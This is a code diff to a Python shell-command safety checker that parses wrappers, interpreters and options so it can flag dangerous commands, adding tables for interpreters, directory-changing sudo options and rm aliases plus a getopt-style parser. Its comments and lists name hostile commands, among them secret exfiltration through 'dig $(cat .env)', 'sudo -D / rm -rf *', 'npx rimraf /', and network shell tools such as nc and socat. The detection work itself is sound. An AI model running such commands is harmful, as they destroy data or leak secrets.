@@ -39,7 +39,9 @@ def confusable(word: str) -> bool:
 
 SHELLS = frozenset("sh bash zsh dash ksh ash mksh fish csh tcsh yash busybox-sh".split())
 INTERPRETERS = {"python": "-c", "pypy": "-c", "perl": "-e", "ruby": "-e", "node": "-e", "php": "-r",
-                "lua": "-e", "deno": "eval", "bun": "-e", "osascript": "-e", "tclsh": None, "awk": None}
+                "lua": "-e", "deno": "eval", "bun": "-e", "osascript": "-e", "tclsh": None, "awk": None,
+                "rscript": "-e", "julia": "-e", "expect": "-c", "wish": None, "emacs": "--eval",
+                "guile": "-c", "racket": "-e", "elixir": "-e", "groovy": "-e", "pwsh": "-c", "powershell": "-c"}
 NET_FETCH = frozenset("curl wget fetch http https aria2c lynx links w3m".split())
 NET_PIPES = frozenset("nc ncat netcat socat telnet openssl cryptcat".split())
 # A secret in the arguments of a DNS lookup or ping leaves the machine too (`dig $(cat .env).x.io`).
@@ -101,7 +103,6 @@ WRAPPERS: dict[str, tuple[frozenset, int, bool]] = {
                               "--description".split()), 0, True),
     "catchsegv": (frozenset(), 0, False),
     "nocache": (frozenset(), 0, False),
-    "sg": (frozenset(), 1, False),
     "taskset": (frozenset(), 1, False),
     "numactl": (frozenset(), 0, False),
     "faketime": (frozenset(), 1, False),
@@ -119,6 +120,13 @@ WRAPPERS: dict[str, tuple[frozenset, int, bool]] = {
     "su-exec": (frozenset(), 1, True),
     "screen": (frozenset("-S -c -e -h -p -t -T -s".split()), 0, False),
 }
+
+
+# Options of a wrapper that set the wrapped command's directory (`sudo -D / rm -rf *` runs in /).
+WRAPPER_CHDIR = {"sudo": ("-D", "--chdir"), "run0": ("-D", "--chdir"), "unshare": ("-w", "--wd"),
+                 "systemd-run": ("", "--working-directory")}
+# Programs that are another command under a new name (`npx rimraf /` is `rm -rf /`).
+EQUIVALENTS = {"rimraf": ["rm", "-rf"], "del-cli": ["rm", "-rf"]}
 
 
 def skip_options(argv: list[str], start: int, value_opts: frozenset) -> int:
@@ -150,6 +158,53 @@ def skip_options(argv: list[str], start: int, value_opts: frozenset) -> int:
         else:
             i += 1
     return i
+
+
+def getopt(argv: list[str], start: int, required: str, optional: str = "",
+           long_required: frozenset = frozenset(), long_optional: frozenset = frozenset(),
+           permute: bool = False) -> tuple[list[tuple[str, str | None]], int]:
+    """Options of argv[start:] read as GNU getopt_long does, and the index of the first operand.
+
+    `required` letters take the rest of the cluster or the next word (`-n1`, `-n 1`); `optional`
+    letters take a value only when it is attached (`xargs -e rm`: -e has no value, rm is the
+    command; `-eEND` sets it); long options in `long_optional` take one only after `=`. With
+    `permute` false the scan stops at the first operand (POSIXLY_CORRECT, xargs, sudo)."""
+    opts: list[tuple[str, str | None]] = []
+    i, n = start, len(argv)
+    while i < n:
+        a = argv[i]
+        if a == "--":
+            return opts, i + 1
+        if not a.startswith("-") or a == "-":
+            if not permute:
+                return opts, i
+            i += 1
+            continue
+        if a.startswith("--"):
+            name, eq, val = a.partition("=")
+            if eq:
+                opts.append((name, val))
+            elif name in long_required or (name not in long_optional and any(
+                    x.startswith(name) for x in long_required) and not any(x == name for x in long_optional)):
+                opts.append((name, argv[i + 1] if i + 1 < n else None))
+                i += 1
+            else:
+                opts.append((name, None))
+            i += 1
+            continue
+        for k in range(1, len(a)):
+            ch = a[k]
+            if ch in required:
+                attached: str | None = a[k + 1:] or (argv[i + 1] if i + 1 < n else None)
+                opts.append(("-" + ch, attached))
+                i += 0 if a[k + 1:] else 1
+                break
+            if ch in optional:
+                opts.append(("-" + ch, a[k + 1:] or None))
+                break
+            opts.append(("-" + ch, None))
+        i += 1
+    return opts, i
 
 
 def long_option(word: str, longs: tuple | None) -> list[str]:
